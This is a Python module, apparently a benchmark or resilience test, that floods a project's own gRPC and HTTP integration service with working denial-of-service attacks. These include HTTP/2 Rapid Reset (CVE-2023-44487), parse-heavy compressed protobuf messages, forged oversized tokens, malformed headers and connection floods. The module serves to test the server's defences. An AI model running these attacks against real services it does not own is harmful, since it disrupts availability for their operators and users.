"""`python -m benchmarks.attacks NAME…`: a hostile client, which attacks a server at fixed rates and stops by itself.

The input is one line of JSON (`Target`), because command lines are visible to everybody. The output is one line, the
number of requests that were sent. The requests are prepared before the attack, and the process has a low priority: on
another machine, it would take no CPU time from the server.
"""

import asyncio
import base64
import gzip
import itertools
import json
import os
import sys
import time
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator, Mapping, Sequence
from contextlib import suppress
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any

import uvloop

from integrations.v1 import integration_service_pb2 as pb
from tests import http2_frames as http2

SERVICE = "/integrations.v1.IntegrationService"
_ROOT = Path(__file__).parents[1]
_NICENESS = 10
_TICK = 0.005  # seconds between batches of requests
_SETTLE_SECONDS = 0.1  # for the server's HTTP/2 settings
_STREAMS = 200  # of one connection, before the next one


@dataclass(frozen=True, slots=True)
class Target:
    """The addresses under attack, an attacker's own token, which is valid for a user, and the length in seconds."""

    grpc_host: str
    grpc_port: int
    http_host: str
    http_port: int
    seconds: float
    token: str = field(repr=False)

    def to_json(self) -> str:
        """The line that the attack reads."""
        return json.dumps(asdict(self))


# --- gRPC ------------------------------------------------------------------------------------------------------------


class Http2Connection:
    """A connection that opens streams, and ignores what the server sends."""

    def __init__(self, transport: asyncio.Transport) -> None:
        self._transport = transport
        self._ids = itertools.count(1, 2)
        self._opened = 0

    @property
    def is_usable(self) -> bool:
        """Whether the connection takes another stream."""
        return not self._transport.is_closing() and self._opened < _STREAMS

    def send(self, call: Callable[[int], bytes]) -> None:
        """Send the frames of a call on the next stream."""
        _write(self._transport, call(next(self._ids)))
        self._opened += 1

    def close(self) -> None:
        """Reset the connection."""
        self._transport.abort()


async def _connect(target: Target, settle_seconds: float = _SETTLE_SECONDS) -> Http2Connection:
    transport = await _open(target.grpc_host, target.grpc_port)
    _write(transport, http2.opening())
    await asyncio.sleep(settle_seconds)
    return Http2Connection(transport)


async def _open(host: str, port: int) -> asyncio.Transport:
    """A connection whose received bytes are ignored."""
    transport, _ = await asyncio.get_running_loop().create_connection(asyncio.Protocol, host, port)
    return transport


def _write(transport: asyncio.Transport, content: bytes) -> None:
    """Send bytes. The server may have closed the connection: ConnectionResetError (uvloop raises a RuntimeError)."""
    if transport.is_closing():
        raise ConnectionResetError
    transport.write(content)


async def _call_at(target: Target, rate: float, calls: Iterator[Callable[[int], bytes]]) -> int:
    """Send calls at a rate, over one connection after the other."""
    connection, count = await _connect(target), 0
    try:
        async for number in _ticks(target.seconds, rate):
            count = number
            with suppress(ConnectionError):
                if not connection.is_usable:
                    connection.close()
                    connection = await _connect(target)
                connection.send(next(calls))
    finally:
        connection.close()
    return count


async def _ticks(seconds: float, rate: float) -> AsyncIterator[int]:
    """Yield 1, 2, … at a rate. What is late is made up for."""
    begin, number = time.monotonic(), 0
    while (elapsed := time.monotonic() - begin) < seconds:
        while number < elapsed * rate:
            number += 1
            yield number
        await asyncio.sleep(_TICK)


def _empty_call(path: str, metadata: http2.Fields) -> Callable[[int], bytes]:
    block = http2.call_headers(path, metadata)
    return lambda stream: http2.headers(stream, block, end_stream=True)


def _message_call(path: str, metadata: http2.Fields, content: bytes, *, compressed: bool) -> Callable[[int], bytes]:
    encoding = (("grpc-encoding", "gzip"),) if compressed else ()
    block = http2.call_headers(path, (*metadata, *encoding))
    return lambda stream: http2.headers(stream, block) + http2.message(stream, content, compressed=compressed)


def _bearer(token: str) -> http2.Fields:
    return (("authorization", f"Bearer {token}"),)


def _worst_messages(metadata: http2.Fields) -> Iterator[Callable[[int], bytes]]:
    """Messages that take long to parse or to convert, within the window of a new HTTP/2 stream (64 KiB)."""
    empty = pb.ConnectRequest(integration_type="sandbox")
    empty.config["items"] = [{}] * 1_000_000
    deep = pb.ConnectRequest(integration_type="sandbox")
    nested: Any = {}
    for _ in range(30):
        nested = {"a": [nested]}
    deep.config.update(nested)
    wide = pb.ConnectRequest(integration_type="sandbox")
    wide.config.update({f"key{number}": {} for number in range(5_000)})
    mask = pb.UpdateIntegrationRequest(integration_id=1)
    mask.update_mask.paths.extend(["a"] * 15_000)
    zipped = [
        _message_call(f"{SERVICE}/Connect", metadata, gzip.compress(message.SerializeToString()), compressed=True)
        for message in (empty, wide)
    ]
    plain = [
        _message_call(f"{SERVICE}/Connect", metadata, deep.SerializeToString(), compressed=False),
        _message_call(f"{SERVICE}/UpdateIntegration", metadata, mask.SerializeToString(), compressed=False),
    ]
    return itertools.cycle([*zipped, *plain])


async def worst_messages(target: Target) -> int:
    """An authenticated user sends messages that take long to parse."""
    return await _call_at(target, 20, _worst_messages(_bearer(target.token)))


async def anonymous_worst_messages(target: Target) -> int:
    """An anonymous client sends the same messages."""
    return await _call_at(target, 50, _worst_messages(()))


async def rapid_reset(target: Target) -> int:
    """HEADERS and RST_STREAM at 1,000/s (CVE-2023-44487)."""
    block = http2.call_headers(f"{SERVICE}/ListIntegrations")
    return await _call_at(
        target, 1_000, itertools.repeat(lambda stream: http2.headers(stream, block) + http2.reset(stream))
    )


def forged_token(size: int) -> str:
    """A token of this many bytes with a signature that is wrong."""

    def encode(part: bytes) -> str:
        return base64.urlsafe_b64encode(part).rstrip(b"=").decode()

    claims = {"iss": "https://services.example", "aud": "integrations", "sub": "backend", "exp": 2**32}
    header, signature = encode(b'{"alg":"ES256","kid":"one"}'), encode(os.urandom(64))
    padding = max(0, size * 3 // 4 - 250)
    return f"{header}.{encode(json.dumps({**claims, 'padding': 'x' * padding}).encode())}.{signature}"


async def forged_tokens(target: Target) -> int:
    """Tokens of 1, 6 and 12 kB whose signatures are wrong."""
    tokens = [forged_token(size) for size in (1_000, 6_000, 12_000) for _ in range(20)]
    calls = [_empty_call(f"{SERVICE}/ListIntegrations", _bearer(token)) for token in tokens]
    return await _call_at(target, 200, itertools.cycle(calls))


async def metadata_entries(target: Target) -> int:
    """300 metadata entries, and one large one."""
    many = [(f"x-{number}", "v") for number in range(300)]
    calls = [
        _empty_call(f"{SERVICE}/ListIntegrations", many),
        _empty_call(f"{SERVICE}/ListIntegrations", [("x-large", "v" * 15_000)]),
    ]
    return await _call_at(target, 200, itertools.cycle(calls))


async def unknown_methods(target: Target) -> int:
    """Paths that the server does not have."""
    calls = [_empty_call(f"/no.such.Service/{os.urandom(8).hex()}", ()) for _ in range(1_000)]
    return await _call_at(target, 200, itertools.cycle([*calls, _empty_call("/\udcff/\udcfe", ())]))


async def malformed_headers(target: Target) -> int:
    """Headers that are not UTF-8, which gRPC's Python code decodes, and values that its C core does not accept."""
    fields = (
        ("authorization", "Bearer \udcff"),
        ("x-\udcff", "x"),
        ("te", "gzip"),
        ("grpc-timeout", "-5S"),
        ("grpc-encoding", "x"),
    )
    calls = [_empty_call(f"{SERVICE}/ListIntegrations", (entry,)) for entry in fields]
    return await _call_at(target, 200, itertools.cycle(calls))


async def grpc_connections(target: Target) -> int:
    """Connections with one anonymous call each, which end with a reset."""
    call, count = _empty_call(f"{SERVICE}/ListIntegrations", ()), 0
    async for number in _ticks(target.seconds, 50):
        count = number
        with suppress(ConnectionError):
            connection = await _connect(target, settle_seconds=0)
            connection.send(call)
            asyncio.get_running_loop().call_later(0.5, connection.close)
    return count


# --- HTTP ------------------------------------------------------------------------------------------------------------


async def one_byte_chunks(target: Target) -> int:
    """Anonymous POST requests to unknown paths, whose bodies have chunks of one byte."""
    head = b"POST /x HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n"
    request, count = head + b"1\r\nx\r\n" * 20_000 + b"0\r\n\r\n", 0
    async for number in _ticks(target.seconds, 5):
        count = number
        with suppress(ConnectionError):
            transport = await _open(target.http_host, target.http_port)
            _write(transport, request)
            asyncio.get_running_loop().call_later(5, transport.abort)
    return count


async def unknown_webhooks(target: Target) -> int:
    """Webhook deliveries to addresses that do not exist."""
    count, body = 0, b'{"id": 1}'
    async for number in _ticks(target.seconds, 100):
        count = number
        head = (
            f"POST /api/v1/webhooks/sandbox/{os.urandom(24).hex()} HTTP/1.1\r\nHost: localhost\r\n"
            f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n"
        )
        with suppress(ConnectionError):
            transport = await _open(target.http_host, target.http_port)
            _write(transport, head.encode() + body)
            asyncio.get_running_loop().call_later(1, transport.abort)
    return count


async def kept_alive_connections(target: Target) -> int:
    """200 kept-alive connections with requests for /healthz, 200/s in all. Closed ones are reopened."""
    request = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n"
    transports, count = [await _open(target.http_host, target.http_port) for _ in range(200)], 0
    async for number in _ticks(target.seconds, 200):
        count, place = number, number % len(transports)
        with suppress(ConnectionError):
            if transports[place].is_closing():
                transports[place] = await _open(target.http_host, target.http_port)
            _write(transports[place], request)
    for transport in transports:
        transport.abort()
    return count


# --- the process -----------------------------------------------------------------------------------------------------

ATTACKS: Mapping[str, Callable[[Target], Awaitable[int]]] = {
    "worst-messages": worst_messages,
    "anonymous-worst-messages": anonymous_worst_messages,
    "one-byte-chunks": one_byte_chunks,
    "rapid-reset": rapid_reset,
    "forged-tokens": forged_tokens,
    "metadata-entries": metadata_entries,
    "unknown-methods": unknown_methods,
    "malformed-headers": malformed_headers,
    "grpc-connections": grpc_connections,
    "unknown-webhooks": unknown_webhooks,
    "kept-alive-connections": kept_alive_connections,
}


async def run_attack(target: Target, *names: str) -> int:
    """Run attacks at the same time in one process of their own; the number of requests that it sent."""
    process = await asyncio.create_subprocess_exec(
        *(sys.executable, "-m", "benchmarks.attacks", *names),
        cwd=_ROOT,
        env={**os.environ, "PYTHONPATH": f"{_ROOT}{os.pathsep}{_ROOT / 'generated'}"},
        stdin=asyncio.subprocess.PIPE,
        stdout=asyncio.subprocess.PIPE,
    )
    sent, _ = await process.communicate(f"{target.to_json()}\n".encode())
    if process.returncode:
        raise RuntimeError(f"an attack failed: {', '.join(names)}")
    return int(sent)


async def _attack(names: Sequence[str], target: Target) -> int:
    return sum(await asyncio.gather(*(ATTACKS[name](target) for name in names)))


def main() -> None:
    """Run the attacks that the command line names."""
    target = Target(**json.loads(sys.stdin.readline()))
    os.nice(_NICENESS)
    sys.stdout.write(f"{uvloop.run(_attack(sys.argv[1:], target))}\n")


if __name__ == "__main__":
    main()
